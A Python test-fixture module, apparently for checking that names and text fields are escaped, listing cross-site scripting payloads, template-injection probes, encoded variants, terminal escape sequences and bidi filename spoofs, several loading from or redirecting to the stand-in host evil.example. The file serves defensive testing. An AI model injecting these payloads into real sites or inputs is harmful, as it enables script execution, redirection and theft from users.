"""What somebody might write where a name or a text is asked for.

Whatever of it runs sets ``window.pwned``, and whatever becomes an element has the id ``pwn``.
"""

RUN = "window.pwned=1"
SCRIPT = f"<script id=pwn>{RUN}</script>"

MARKUP = [
    SCRIPT,
    f'">{SCRIPT}',
    f"'>{SCRIPT}",
    f"</title>{SCRIPT}",
    f"</textarea>{SCRIPT}",
    f"</script>{SCRIPT}",
    f"</style>{SCRIPT}",
    f"</option></select>{SCRIPT}",
    f"<img id=pwn src=x onerror={RUN}>",
    f'" autofocus onfocus={RUN} id="pwn',
    f"' onmouseover='{RUN}' id='pwn",
    f"<svg id=pwn onload={RUN}>",
    f"<svg><script id=pwn>{RUN}</script></svg>",
    f"<math id=pwn><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    "<img id=pwn src=//evil.example/x>",
    f'<iframe id=pwn srcdoc="<script>parent.{RUN.removeprefix("window.")}</script>">',
    f'<a id=pwn href="javascript:{RUN}">x</a>',
    "<base id=pwn href=//evil.example/>",
    '<meta id=pwn http-equiv=refresh content="0;url=//evil.example/">',
    "<link id=pwn rel=stylesheet href=//evil.example/x.css>",
    "<style id=pwn>*{display:none}</style>",
    "<form id=pwn action=//evil.example><input name=q></form>",
    '<div id=pwn hx-get="//evil.example/" hx-trigger="load">',
    f'<div id=pwn hx-on:load="{RUN}" data-live="rows.hosts">',
    '<button id=pwn data-click="copy" data-copy-from="x">x</button>',
    '<naru-log id=pwn data-poll="//evil.example/"></naru-log>',
    f"<details id=pwn open ontoggle={RUN}>",
    f"<template shadowrootmode=open>{SCRIPT}</template>",
    f'<noscript><p title="</noscript>{SCRIPT}">',
    f"<!--><img id=pwn src=x onerror={RUN}>-->",
    f"<![CDATA[>{SCRIPT}]]>",
    "<object id=pwn data=//evil.example/x></object>",
]
TEMPLATES = [
    f"javascript:{RUN}",
    f"data:text/html,{SCRIPT}",
    "{{ 7|add:7 }}{% debug %}",
    f"${{{RUN}}}",
    f"'-{RUN}-'",
    f"\\u003cscript id=pwn\\u003e{RUN}\\u003c/script\\u003e",
    f"&lt;script id=pwn&gt;{RUN}&lt;/script&gt;",
    f"&#60;script id=pwn&#62;{RUN}",
    f"%3Cscript%20id=pwn%3E{RUN}%3C/script%3E",
    f"O'Brien \" \\ & {SCRIPT.upper()}",
]
# lines and titles of terminals; names cannot have them
SIGNS = [
    "\x1b]0;pwned\x07",
    "\x1b]2;pwned\x1b\\",
    f"\x1b]8;;javascript:{RUN}\x1b\\link\x1b]8;;\x1b\\",
    f"\x1b[2J\x1b[1;1H{SCRIPT}",
    f"\x9b31m{SCRIPT}",
]
BACKWARDS = ["\u202egnp.exe", f"\u2066\u2067{SCRIPT}", f"\ufeff{SCRIPT}"]

TEXTS = [*MARKUP, *TEMPLATES, *BACKWARDS]
LINES = [*TEXTS, *SIGNS]
